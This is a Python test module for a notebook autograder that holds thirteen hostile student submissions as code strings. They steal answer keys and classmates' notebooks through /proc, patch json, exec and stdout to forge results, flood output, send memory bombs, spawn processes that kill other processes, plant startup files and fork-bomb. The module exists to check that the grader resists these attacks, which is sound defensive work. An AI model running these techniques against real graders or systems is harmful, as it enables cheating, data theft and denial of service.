"""Attacks on the grader by a determined student (issue 10), as submissions of lesson 98.

Each builder returns the solutions notebook with the ``98-double`` solution cell replaced;
the other two exercises stay right (3 + 1 points). A student's real work on ``double`` is
either nothing (the answer is wrong and only the attack could make it look right) or an
honest answer with a hostile side effect. ``EXPECTED`` gives, per attack, what the work
deserves: the points and status of ``98-double``.

The attacks are graded in one run with ``--jobs 1``, each followed by an honest and a blank
submission, whose rows must not change.
"""
from grading_gallery.hostile import GOOD_DOUBLE
from grading_gallery.lesson import with_solution

WRONG = "def double(x):\n    return 3.0 * np.asarray(x, dtype=float)\n"

# Searches that must find nothing: if any finds the key or a solution, `double` becomes
# right and the attack scores (the test then fails).
KEY_FROM_PACKAGE = '''
import glob, os, importlib
import gdlab
_found = []
_pkg = os.path.dirname(gdlab.__file__)
for _p in glob.glob(os.path.join(_pkg, "checks", "lesson*.py")):
    try:
        if os.path.getsize(_p) > 0 or open(_p).read():
            _found.append(_p)
    except OSError:
        pass
for _p in glob.glob(os.path.join(_pkg, "checks", "__pycache__", "lesson*")):
    _found.append(_p)
try:
    _m = importlib.import_module("gdlab.checks.lesson01")
    if hasattr(_m, "DERIVATIVE") or len(vars(_m)) > 8:
        _found.append("gdlab.checks.lesson01")
except Exception:
    pass
try:
    from gdlab.checks import get_exercise
    _ref = get_exercise("98-double").reference
    _found.append("registry")
except Exception:
    _ref = None
def double(x):
    if _found:
        return 2.0 * np.asarray(x, dtype=float)
    return 3.0 * np.asarray(x, dtype=float)
'''

SOLUTIONS_NEAR_PACKAGE = '''
import os, gdlab
_found = []
_dir = os.path.dirname(gdlab.__file__)
for _ in range(6):
    _dir = os.path.dirname(_dir)
    for _name in ("solutions", "lessons", "submissions"):
        if os.path.isdir(os.path.join(_dir, _name)):
            _found.append(os.path.join(_dir, _name))
for _root, _dirs, _files in os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/usr", "/dev")):
        _dirs[:] = []
        continue
    _found += [f for f in _files if f.endswith(".ipynb")]
def double(x):
    return (2.0 if _found else 3.0) * np.asarray(x, dtype=float)
'''

CLASSMATE_FROM_CMDLINE = '''
import os, re, json
_stolen = None
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    try:
        _cmd = open(f"/proc/{_pid}/cmdline", "rb").read().decode(errors="replace")
    except OSError:
        continue
    for _path in re.findall(r"[^\\x00]+\\.ipynb", _cmd):
        try:
            _nb = json.load(open(_path))
        except Exception:
            continue
        for _c in _nb.get("cells", []):
            if _c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "98-double-solution":
                _stolen = "".join(_c["source"])
if _stolen:
    exec(_stolen)
else:
    def double(x):
        return 3.0 * np.asarray(x, dtype=float)
'''

# Forgers: `double` is wrong; the attack rewrites the reported values so that every case
# of the lesson (whose answers a student can read off the lesson) looks right, and uses the
# nearest known answer for any other input.
_FORGE_HELPERS = '''
import json as _json, sys as _sys
_KNOWN = {1.5: 3.0, -2.0: -4.0}
_KNOWN_ARRAY = {"__ndarray__": [2.0, -6.0, 0.5], "dtype": "<f8", "shape": [3]}
def _forged_outcomes(spec_json):
    spec = _json.loads(spec_json)
    if spec["id"] != "98-double":
        return None
    outs = []
    for case in spec["cases"]:
        arg = case["args"][0]
        value = _KNOWN.get(arg, 0.0) if isinstance(arg, (int, float)) else _KNOWN_ARRAY
        outs.append({"status": "returned", "value": value, "error_type": "",
                     "error_message": "", "mutated": []})
    return outs
def _find(name):
    f = _sys._getframe(1)
    while f is not None and name not in f.f_locals:
        f = f.f_back
    return None if f is None else f.f_locals[name]
'''

JSON_DUMPS_PATCH = _FORGE_HELPERS + '''
_orig_dumps = _json.dumps
def _dumps(obj, *a, **k):
    if isinstance(obj, dict) and "outcomes" in obj:
        spec = _find("spec_json")
        if spec is not None and _forged_outcomes(spec) is not None:
            obj = {"outcomes": _forged_outcomes(spec)}
    return _orig_dumps(obj, *a, **k)
_json.dumps = _dumps
''' + WRONG

EXEC_WRAPPER = _FORGE_HELPERS + '''
import builtins as _bi
_orig_exec = _bi.exec
def _exec(code, g=None, l=None):
    _orig_exec(code, g, l)
    if isinstance(g, dict) and "main" in g and g.get("__name__") == "__gdlab_probe_runtime__":
        real_main = g["main"]
        def main(spec_json, namespace, nonce):
            if _forged_outcomes(spec_json) is None:
                return real_main(spec_json, namespace, nonce)
            out = _sys.stdout
            payload = _json.dumps({"outcomes": _forged_outcomes(spec_json)})
            out.write(f"@@gdlab-probe-begin:{nonce}@@{payload}@@gdlab-probe-end:{nonce}@@\\n")
        g["main"] = main
_bi.exec = _exec
''' + WRONG

STDOUT_REPLACED = _FORGE_HELPERS + '''
import re as _re
class _Rewriter:
    def __init__(self, real):
        self.real = real
    def write(self, text):
        m = _re.search(r"@@gdlab-probe-begin:(\\w+)@@(.*)@@gdlab-probe-end:\\w+@@", text, _re.S)
        spec = _find("spec_json")
        if m and spec is not None and _forged_outcomes(spec) is not None:
            payload = _json.dumps({"outcomes": _forged_outcomes(spec)})
            text = f"@@gdlab-probe-begin:{m[1]}@@{payload}@@gdlab-probe-end:{m[1]}@@\\n"
        return self.real.write(text)
    def flush(self):
        return self.real.flush()
    def __getattr__(self, name):
        return getattr(self.real, name)
_sys.stdout = _Rewriter(_sys.stdout)
''' + WRONG

NONCE_AND_PADDING = _FORGE_HELPERS + '''
_out = _sys.stdout
def double(x):
    nonce, spec = _find("nonce"), _find("spec_json")
    if nonce and spec and not globals().get("_sent"):
        globals()["_sent"] = True
        payload = _json.dumps({"outcomes": _forged_outcomes(spec)})
        _out.write(f"@@gdlab-probe-begin:{nonce}@@{payload}@@gdlab-probe-end:{nonce}@@")
        for _ in range(40):
            _out.write("x" * 1_000_000)   # pushes the real block past the output cap
        _out.flush()
    return 3.0 * np.asarray(x, dtype=float)
'''

THREAD_FORGER = _FORGE_HELPERS + '''
import threading, time
_out = _sys.stdout
_state = {}
def double(x):
    _state.setdefault("nonce", _find("nonce"))
    _state.setdefault("spec", _find("spec_json"))
    return 3.0 * np.asarray(x, dtype=float)
def _forger():
    while "nonce" not in _state:
        time.sleep(0.001)
    payload = _json.dumps({"outcomes": _forged_outcomes(_state["spec"])})
    _out.write(f"@@gdlab-probe-begin:{_state['nonce']}@@{payload}"
               f"@@gdlab-probe-end:{_state['nonce']}@@")
    for _ in range(40):
        _out.write("x" * 1_000_000)
    _out.flush()
threading.Thread(target=_forger, daemon=True).start()
'''

# The only result block holds a 4-element array of 100 MB strings: tiny as JSON, 400 MB
# (and more in copies) if the grader built it.
TINY_BOMB = _FORGE_HELPERS + '''
_orig_dumps = _json.dumps
def _dumps(obj, *a, **k):
    spec = _find("spec_json")
    if isinstance(obj, dict) and "outcomes" in obj and spec and _forged_outcomes(spec):
        bomb = {"__ndarray__": ["", "", "", ""], "dtype": "|S100000000", "shape": [4]}
        obj = {"outcomes": [{"status": "returned", "value": bomb, "error_type": "",
                             "error_message": "", "mutated": []}
                            for _ in _json.loads(spec)["cases"]]}
    return _orig_dumps(obj, *a, **k)
_json.dumps = _dumps
''' + WRONG

HUNDRED_MB_RESULT = '''
def double(x):
    return np.ones(100 * 2**20 // 8)    # 100 MB, returned honestly through the channel
'''

# A child that outlives its kernel (double fork + setsid) and, for 20 s, tries to reach
# later kernels: signal every process it can see (but its own kernel), connect to every socket file it can find,
# and keep a file in /tmp that a later kernel would import. `double` itself is honest.
LINGERING_CHILD = '''
import os, time, signal, socket, glob
_kernel = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 20
        while time.time() < end:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) not in (os.getpid(), _kernel, 1):
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
            for path in glob.glob("/tmp/**/*ipc*", recursive=True):
                try:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(path)
                    s.close()
                except OSError:
                    pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
os.wait()
''' + GOOD_DOUBLE

# Files planted where a later kernel might pick them up; site-packages is read-only, so
# `double` is right only if that write failed (full marks prove it stayed shut).
PLANTS_FILES = '''
import os, site, sys
open("/tmp/sitecustomize.py", "w").write("raise SystemExit('planted')\\n")
open("/tmp/gdlab-planted-by-a-submission", "w").write("x")
open("/dev/shm/gdlab-planted-by-a-submission", "w").write("x")
_blocked = 0
for _d in site.getsitepackages():
    try:
        open(os.path.join(_d, "zz_planted.pth"), "w").write("import os; os._exit(9)\\n")
    except OSError:
        _blocked += 1
def double(x):
    if _blocked != len(site.getsitepackages()):
        raise RuntimeError("site-packages was writable")
    return 2.0 * np.asarray(x, dtype=float)
'''

# As many sleeping children as the process cap allows, then an honest answer.
FORK_BURST = '''
import os, time
_children = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    _children += 1
''' + GOOD_DOUBLE

ATTACKS = {
    "key_from_package": KEY_FROM_PACKAGE,
    "solutions_near_package": SOLUTIONS_NEAR_PACKAGE,
    "classmate_from_cmdline": CLASSMATE_FROM_CMDLINE,
    "json_dumps_patch": JSON_DUMPS_PATCH,
    "exec_wrapper": EXEC_WRAPPER,
    "stdout_replaced": STDOUT_REPLACED,
    "nonce_and_padding": NONCE_AND_PADDING,
    "thread_forger": THREAD_FORGER,
    "tiny_bomb": TINY_BOMB,
    "hundred_mb_result": HUNDRED_MB_RESULT,
    "lingering_child": LINGERING_CHILD,
    "plants_files": PLANTS_FILES,
    "fork_burst": FORK_BURST,
}

# attack -> (points, status) of 98-double: what the work deserves.
EXPECTED = {
    "key_from_package": (0, "failed"),
    "solutions_near_package": (0, "failed"),
    "classmate_from_cmdline": (0, "failed"),
    "json_dumps_patch": (0, "failed"),
    "exec_wrapper": (0, "failed"),
    "stdout_replaced": (0, "failed"),
    "nonce_and_padding": (0, "tampered"),
    "thread_forger": (0, "tampered"),
    "tiny_bomb": (0, "tampered"),
    "hundred_mb_result": (0, "failed"),
    "lingering_child": (2, "passed"),
    "plants_files": (2, "passed"),
    "fork_burst": (2, "passed"),
}


def build(nb, name):
    return with_solution(nb, "98-double-solution", ATTACKS[name])
